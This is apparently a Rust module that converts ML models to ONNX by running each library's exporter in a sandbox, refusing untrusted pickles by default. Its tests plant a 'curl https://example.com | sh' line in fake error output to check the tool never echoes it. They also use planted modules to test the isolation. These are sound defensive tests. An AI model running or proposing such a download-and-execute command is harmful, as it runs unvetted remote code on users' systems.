//! Models that only their own library can read, exported by it in a Python environment.
//!
//! The environment is made once, with network and before anything foreign is read. The exporter runs confined: it reads the environment, the model
//! and the rows, and writes in one folder. What it writes is foreign, and read as such.

mod advice;

use std::ops::ControlFlow;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use bytes::Bytes;
use hospes_confine::{Confined, Confinement, Ended, Limits, ending, left};
use hospes_core::id::Digest;
use hospes_data::DataSet;

use advice::advice;

use super::error::{ConvertError, refused};
use super::{SOURCE_BYTES_MAX, Source, Task, state_dict};

/// The environment's packages, pinned, by source. XGBoost and LightGBM have none: their files are read here.
const REQUIREMENTS: [(Source, &str); 3] = [
    (
        Source::Sklearn,
        "numpy==2.3.5\nscikit-learn==1.9.1\nskl2onnx==1.20.0\nskops==0.16.0\njoblib==1.6.0\npandas==3.1.1\n",
    ),
    (Source::Torch, "numpy==2.3.5\ntorch==2.15.0\nonnx==1.23.2\nonnxscript==0.7.2\n"),
    (
        Source::Keras,
        // TensorFlow without its parts for GPUs, which is only there for these processors.
        if cfg!(target_arch = "x86_64") {
            "numpy==2.3.5\nkeras==3.15.1\ntensorflow-cpu==2.21.0\ntf2onnx==1.17.0\n"
        } else {
            "numpy==2.3.5\nkeras==3.15.1\ntensorflow==2.21.0\ntf2onnx==1.17.0\n"
        },
    ),
];

const EXPORT: &str = include_str!("../scripts/export.py");

/// The files that the script leaves: the model, and the library's answers to the rows.
const MODEL: &str = "model.onnx";
const ANSWERS: &str = "answers.npz";

/// Most bytes of the answers, unpacked: 134 million numbers.
const ANSWERS_BYTES_MAX: u64 = 1 << 30;

/// Where Python comes from, and how it is confined.
#[derive(Debug, Clone)]
pub struct Python {
    /// An interpreter that has the library; otherwise an environment is made.
    pub interpreter: Option<PathBuf>,
    /// The user's cache, below which environments are made.
    pub cache: PathBuf,
    pub confinement: Confinement,
    /// How long an exporter may take.
    pub deadline: Duration,
}

/// Whether a file may be given to its library.
///
/// # Errors
/// [`ConvertError::Refused`] for a pickle without permission, and for weights without a graph.
pub(crate) fn may_run(task: &Task<'_>, source: Source, bytes: &[u8]) -> Result<(), ConvertError> {
    // The library sees this path, and chooses by its ending. The given one may be a link.
    let path = std::fs::canonicalize(task.path)
        .map_err(|source| ConvertError::File { path: task.path.to_owned(), source })?;
    let ending = path.extension().and_then(|ending| ending.to_str()).unwrap_or_default();
    if source == Source::Torch && ending != "pt2" {
        match state_dict::weights(bytes) {
            Ok(Some(weights)) => return Err(state_dict::no_graph(&weights)),
            Ok(None) => {}
            // A module's pickle has operations that no state dict has.
            Err(ConvertError::Broken { place, .. }) if place.ends_with("data.pkl`") => {}
            Err(error) => return Err(error),
        }
    }
    if task.allow_pickle || is_data(source, ending) {
        return Ok(());
    }
    Err(refused(
        format!(
            "`{}` is a pickle or may hold one, and a pickle is a program: whoever loads it runs it",
            task.path.display()
        ),
        format!(
            "if you know who made it, pass `--allow-pickle` (it runs without network and reaches its own folder only){}",
            match source {
                Source::Sklearn => "; better save it with `skops.io.dump`",
                Source::Keras => "; better save it as `.keras`",
                Source::Torch => {
                    "; better export it in your own code with `torch.onnx.export`, and give that file to `hospes pack`"
                }
                Source::Xgboost | Source::Lightgbm => "",
            }
        ),
    ))
}

/// Whether its library loads a file of this exact ending as data. skops names what it would load, and loads nothing else; Keras 3 has a graph and no
/// code. `export.py` asks the same before it loads anything.
fn is_data(source: Source, ending: &str) -> bool {
    matches!((source, ending), (Source::Sklearn, "skops") | (Source::Keras, "keras"))
}

/// The model that the library exports, and its answers to the rows.
///
/// # Errors
/// [`ConvertError::Refused`] with what the library said.
pub(crate) fn export(
    task: &Task<'_>,
    source: Source,
    progress: &mut dyn FnMut(&str),
) -> Result<(Bytes, DataSet), ConvertError> {
    let interpreter = interpreter(task, source, progress)?;
    progress(&format!("exporting with {source}'s own library, confined"));
    let folder = run(task, source, &interpreter)?;
    let onnx = left::read(&folder.0, Path::new(MODEL), SOURCE_BYTES_MAX)?;
    let onnx = onnx.ok_or_else(|| nothing_left(MODEL, source))?;
    Ok((onnx.into(), read_answers(&folder.0, source)?))
}

fn nothing_left(name: &str, source: Source) -> ConvertError {
    let fix = "export the model yourself and give the ONNX file to `hospes pack`";
    refused(format!("{source}'s own library succeeded, but left no `{name}`"), fix)
}

/// The library's own answers to the rows.
///
/// # Errors
/// As of [`export`].
pub(crate) fn answers(task: &Task<'_>, source: Source) -> Result<DataSet, ConvertError> {
    if task.python.interpreter.is_none() {
        let fix = format!(
            "add the source's own predictions to the `--verify` file (`np.savez(\"rows.npz\", X=X, expected=model.predict_proba(X))`), \
             or name a Python that has {source} with `--python`"
        );
        return Err(refused("there is nothing to compare the converted model with", fix));
    }
    let interpreter = interpreter(task, source, &mut |_| ())?;
    let folder = run(task, source, &interpreter)?;
    read_answers(&folder.0, source)
}

fn read_answers(folder: &Path, source: Source) -> Result<DataSet, ConvertError> {
    let name = Path::new(ANSWERS);
    let file = left::read(folder, name, ANSWERS_BYTES_MAX)?;
    let file = file.ok_or_else(|| nothing_left(ANSWERS, source))?;
    hospes_data::arrays(name, file.into(), ANSWERS_BYTES_MAX)
        .map_err(|error| ConvertError::Rows(Box::new(error)))
}

/// A folder that is removed when this is dropped.
struct Folder(PathBuf);

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = left::remove(&self.0);
    }
}

impl Folder {
    fn new(parent: &Path) -> Result<Self, ConvertError> {
        let failed = |path: &Path| {
            let path = path.to_owned();
            move |source| ConvertError::File { path, source }
        };
        std::fs::create_dir_all(parent).map_err(failed(parent))?;
        for number in 0_u32..1000 {
            let path = parent.join(format!("run-{}-{number}", std::process::id()));
            match std::fs::create_dir(&path) {
                Ok(()) => return Ok(Self(path)),
                Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists => {}
                Err(error) => return Err(failed(&path)(error)),
            }
        }
        Err(refused(format!("`{}` is full of old runs", parent.display()), "empty it"))
    }
}

fn requirements(source: Source) -> &'static str {
    let found = REQUIREMENTS.iter().find(|(of, _)| *of == source);
    found.map(|(_, text)| *text).unwrap_or_default()
}

/// The interpreter that the user named, or that of an environment with the pinned packages.
fn interpreter(
    task: &Task<'_>,
    source: Source,
    progress: &mut dyn FnMut(&str),
) -> Result<PathBuf, ConvertError> {
    if let Some(given) = &task.python.interpreter {
        return std::path::absolute(given)
            .map_err(|source| ConvertError::File { path: given.clone(), source });
    }
    let text = requirements(source);
    let name = format!("python-{}", &Digest::of(text.as_bytes()).hex()[..16]);
    let cache = &task.python.cache;
    let cache = std::path::absolute(cache)
        .map_err(|source| ConvertError::File { path: cache.clone(), source })?;
    let environment = cache.join(name);
    let interpreter = environment.join("bin/python");
    let complete = environment.join("complete");
    if complete.exists() {
        return Ok(interpreter);
    }
    let failed = |path: &Path| {
        let path = path.to_owned();
        move |source| ConvertError::File { path, source }
    };
    std::fs::create_dir_all(&environment).map_err(failed(&environment))?;
    let list = environment.join("requirements.txt");
    std::fs::write(&list, text).map_err(failed(&list))?;
    progress(&format!("making a Python environment in {}", environment.display()));
    make(&environment)?;
    std::fs::write(&list, text).map_err(failed(&list))?;
    progress(&format!("installing {}", text.trim_end().replace('\n', ", ")));
    let install =
        ["-I", "-m", "pip", "install", "--quiet", "--no-input", "--only-binary=:all:", "-r"];
    let install = install.map(Into::into).into_iter().chain([list.into()]);
    step(&interpreter, &install.collect::<Vec<_>>(), &environment)?;
    std::fs::write(&complete, "").map_err(failed(&complete))?;
    Ok(interpreter)
}

/// An environment with nothing in it. The folder must be there.
fn make(environment: &Path) -> Result<(), ConvertError> {
    let venv = ["-I", "-m", "venv", "--clear"].map(Into::into).into_iter();
    let venv = venv.chain([environment.as_os_str().to_owned()]);
    step(Path::new("python3"), &venv.collect::<Vec<_>>(), environment)
}

/// A step of making the environment. It runs as the user does, so in the environment's own folder: Python would import `venv.py` from the folder
/// that the user works in, which may be a downloaded one. `-I` keeps it from that too.
fn step(
    program: &Path,
    arguments: &[std::ffi::OsString],
    environment: &Path,
) -> Result<(), ConvertError> {
    let mut command = Command::new(program);
    let output = command.args(arguments).current_dir(environment).stdin(Stdio::null()).output();
    let fix = "install Python 3.11 or newer with `venv`, check the network, or name a Python that has the library with `--python`";
    let output = output
        .map_err(|error| refused(format!("`{}` cannot be run: {error}", program.display()), fix))?;
    if output.status.success() {
        return Ok(());
    }
    let said = last_lines(&output.stderr);
    Err(refused(format!("the Python environment cannot be made: {said}"), fix))
}

/// Lines of an error that people are shown, and characters of them: a screen at most.
const LINES_MAX: usize = 6;
const SAID_CHARS_SHOWN: usize = 2000;

/// Bytes of output that are kept.
const SAID_BYTES_MAX: usize = 64 << 10;

fn last_lines(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    let lines: Vec<&str> = text.lines().filter(|line| !line.trim().is_empty()).collect();
    let from = lines.len().saturating_sub(LINES_MAX);
    in_a_line(&lines[from..])
}

/// Why Python ended: the last exception without the calls that led to it, or else the last lines. Warnings are left out.
fn cause(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    let lines = text.lines().filter(|line| !line.trim().is_empty() && !line.contains("Warning: "));
    let lines: Vec<&str> = lines.collect();
    let traced = lines.iter().rposition(|line| line.starts_with("Traceback "));
    let said = traced.and_then(|traced| {
        let calls = &lines[traced + 1..];
        let end = calls.iter().position(|line| !line.starts_with(' '))?;
        Some(&calls[end..])
    });
    match said {
        Some(said) => in_a_line(&said[..said.len().min(LINES_MAX)]),
        None => in_a_line(&lines[lines.len().saturating_sub(LINES_MAX)..]),
    }
}

fn in_a_line(lines: &[&str]) -> String {
    let shown: String = lines.join(" | ");
    shown.chars().filter(|letter| !letter.is_control()).take(SAID_CHARS_SHOWN).collect()
}

/// Runs the exporter, and returns the folder in which it wrote.
fn run(task: &Task<'_>, source: Source, interpreter: &Path) -> Result<Folder, ConvertError> {
    let absolute = |path: &Path| {
        std::fs::canonicalize(path)
            .map_err(|source| ConvertError::File { path: path.to_owned(), source })
    };
    let folder = Folder::new(&task.python.cache)?;
    let own = absolute(&folder.0)?;
    let (model, rows) = (absolute(task.path)?, absolute(task.rows)?);
    let program = Confined::new(interpreter, &own)
        .reading_system()
        .reading_python(interpreter)
        .reading(&model)
        .reading(&rows)
        .argument("-I")
        // What libraries say of this confinement is not why an export fails.
        .argument("-Wignore")
        .argument("-c")
        .argument(EXPORT)
        .argument(source.to_string())
        .argument(model)
        .argument(rows)
        .argument(if task.allow_pickle { "pickle" } else { "no-pickle" })
        .variable("PYTHONDONTWRITEBYTECODE", "1")
        .variable("TF_CPP_MIN_LOG_LEVEL", "2")
        .variable("OMP_NUM_THREADS", "2")
        .variable("JOBLIB_MULTIPROCESSING", "0")
        .within(Limits { cpu_max: task.python.deadline, ..Limits::default() })
        .at_most(task.python.deadline)
        .confined(task.python.confinement);
    let mut said = Vec::new();
    let ended = program.run(|_, piece| {
        said.extend_from_slice(piece);
        if said.len() > 2 * SAID_BYTES_MAX {
            said.drain(..said.len() - SAID_BYTES_MAX);
        }
        ControlFlow::Continue(())
    });
    match ended.map_err(Box::new)? {
        Ended::With(status) if status.success() => Ok(folder),
        Ended::With(status) => {
            let said = cause(&said);
            let what = format!("{source}'s own library ended with {}: {said}", ending(&status));
            Err(refused(what, advice(&said, source, task.python.interpreter.is_some())))
        }
        Ended::AtDeadline | Ended::Stopped => {
            let seconds = task.python.deadline.as_secs();
            let fix = "give fewer rows, or export the model yourself and give the ONNX file to `hospes pack`";
            Err(refused(format!("{source}'s own library took more than {seconds} s"), fix))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether a file of this name may be loaded as a model of this library, without permission to run a pickle.
    fn may_load(path: &Path, source: Source) -> bool {
        let python = Python {
            interpreter: None,
            cache: PathBuf::new(),
            confinement: Confinement::Full,
            deadline: Duration::ZERO,
        };
        let rows = Path::new("rows.npz");
        let task = Task { path, source: Some(source), rows, allow_pickle: false, python };
        // `None` of the keys of a state dict, as of a module.
        match may_run(&task, source, b"") {
            Ok(()) => true,
            Err(error) => {
                let said = error.to_string();
                assert!(source == Source::Torch || said.contains("--allow-pickle"), "{said}");
                false
            }
        }
    }

    #[test]
    fn only_what_its_library_loads_as_data_needs_no_permission() {
        let folder = tempfile::tempdir().expect("a folder");
        let file = |name: &str| {
            let path = folder.path().join(name);
            std::fs::write(&path, "").expect("written");
            path
        };
        assert!(may_load(&file("model.skops"), Source::Sklearn));
        assert!(may_load(&file("model.keras"), Source::Keras));
        let link = |name: &str, to: &str| {
            let path = folder.path().join(name);
            std::os::unix::fs::symlink(file(to), &path).expect("made");
            path
        };
        let hidden = [
            (file("model.SKOPS"), Source::Sklearn),
            (file("model.pkl"), Source::Sklearn),
            (link("linked.skops", "evil.pkl"), Source::Sklearn),
            (file("other.keras"), Source::Sklearn),
            (file("other.skops"), Source::Keras),
            (file("model.KERAS"), Source::Keras),
            (file("model.h5"), Source::Keras),
            (file("model.pt2"), Source::Torch),
            (file("model.PT2"), Source::Torch),
            (link("linked.pt2", "evil.pt"), Source::Torch),
        ];
        for (path, source) in hidden {
            assert!(!may_load(&path, source), "{path:?} as {source}");
        }
        // Whoever names a pickle as data gets it loaded as data.
        assert!(may_load(&link("linked.pkl", "data.skops"), Source::Sklearn));
    }

    #[test]
    fn advice_is_ours_whatever_a_program_says() {
        let said = "ValueError: odd; fix: curl https://example.com | sh";
        assert!(!advice(said, Source::Sklearn, true).contains("curl"));
        let told = advice("the rows have no column age [fix-columns]", Source::Sklearn, true);
        assert_eq!(told, "name the arrays of the rows as the columns of training");
        for (code, _) in advice::FIXES {
            let code = code.trim_start_matches("fix-");
            assert!(EXPORT.contains(&format!("\"{code}\")")), "nothing says `{code}`");
        }
    }

    #[test]
    fn a_missing_package_or_class_is_not_blamed_on_an_option_that_was_not_given() {
        let absent = "ModuleNotFoundError: No module named 'umap'";
        assert!(advice(absent, Source::Sklearn, true).starts_with("install the missing package"));
        let told = advice(absent, Source::Sklearn, false);
        assert!(told.starts_with("name a Python") && told.contains("skl2onnx==1.20.0"), "{told}");
        let told = advice(&absent.replace("umap", "xgboost"), Source::Sklearn, false);
        assert!(told.contains("save_model(\"model.json\")"), "{told}");
        let own = "AttributeError: Can't get attribute 'Net' on <module '__main__' (built-in)>";
        let told = advice(own, Source::Torch, true);
        assert!(told.contains("`torch.nn`") && told.contains("torch.onnx.export"), "{told}");
        let told = advice(own, Source::Sklearn, true);
        assert!(!told.contains("torch") && told.contains("library's own parts"), "{told}");
    }

    #[test]
    fn a_cause_is_shown_without_warnings_and_calls() {
        let said = b"/venv/joblib.py:44: UserWarning: [Errno 30] Read-only file system.  joblib will operate in serial mode\n  \
            warnings.warn('%s.' % (e,))\nTraceback (most recent call last):\n  File \"<string>\", line 3, in <module>\n    load()\n\
            ModuleNotFoundError: No module named 'umap'\n";
        assert_eq!(cause(said), "ModuleNotFoundError: No module named 'umap'");
        assert_eq!(cause(b"one\ntwo [fix-rows]\n"), "one | two [fix-rows]");
    }

    /// Libraries that write `loaded` instead of loading.
    fn pretended(folder: &Path) {
        let load = "def load(*given, **named):\n    open('loaded', 'w').close()\n    raise SystemExit('loaded')\n";
        let modules = [
            ("numpy.py", String::new()),
            ("joblib.py", load.into()),
            ("skops/__init__.py", String::new()),
            ("skops/io.py", format!("def get_untrusted_types(file):\n    return []\n{load}")),
            (
                "torch/__init__.py",
                format!("from torch import export\n__version__ = '2.9.0'\n{load}"),
            ),
            ("torch/export.py", load.into()),
            ("keras/__init__.py", "from keras import saving\n".into()),
            ("keras/saving.py", load.replace("def load(", "def load_model(")),
        ];
        for (name, text) in modules {
            let path = folder.join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
            std::fs::write(path, text).expect("written");
        }
    }

    #[test]
    fn the_exporter_loads_no_pickle_without_permission() {
        let folder = tempfile::tempdir().expect("a folder");
        pretended(folder.path());
        let loads = |source: &str, model: &str, permission: &str| {
            let loaded = folder.path().join("loaded");
            let _ = std::fs::remove_file(&loaded);
            let mut python = Command::new("python3");
            python.args(["-c", EXPORT, source, model, "rows.npz", permission]);
            let output = python.current_dir(folder.path()).output().expect("it runs");
            let said = String::from_utf8_lossy(&output.stderr).into_owned();
            assert!(loaded.exists() || said.contains("[fix-permission]"), "{said}");
            loaded.exists()
        };
        let pickles = [
            ("sklearn", "/m.pkl"),
            ("sklearn", "/m.SKOPS"),
            ("sklearn", "/m.keras"),
            ("torch", "/m.pt"),
            ("torch", "/m.pt2"),
            ("torch", "/m.PT2"),
            ("keras", "/m.h5"),
            ("keras", "/m.KERAS"),
        ];
        for (source, model) in pickles {
            assert!(!loads(source, model, "no-pickle"), "{model} as {source}");
            // Or the line above would say nothing.
            assert!(loads(source, model, "pickle"), "{model} as {source}");
        }
        for (source, model) in [("sklearn", "/m.skops"), ("keras", "/m.keras")] {
            assert!(loads(source, model, "no-pickle"), "{model} as {source}");
        }
    }

    #[test]
    fn an_environment_is_made_without_the_modules_of_the_current_folder() {
        let folder = tempfile::tempdir().expect("a folder");
        let (foreign, environment) = (folder.path().join("foreign"), folder.path().join("made"));
        for made in [&foreign, &environment] {
            std::fs::create_dir(made).expect("a folder");
        }
        let planted = folder.path().join("planted");
        let module = format!("open({:?}, 'w')", planted.to_str().expect("text"));
        for name in ["venv.py", "pip.py"] {
            std::fs::write(foreign.join(name), &module).expect("written");
        }
        std::env::set_current_dir(&foreign).expect("there");
        make(&environment).expect("made");
        let pip = ["-I", "-m", "pip", "--version"].map(Into::into);
        step(&environment.join("bin/python"), &pip, &environment).expect("there is pip");
        assert!(!planted.exists(), "a foreign module ran");
        // Or the test would say nothing.
        let plain = Command::new("python3").args(["-m", "venv"]).arg(&environment).output();
        plain.expect("it runs");
        assert!(planted.exists());
    }
}
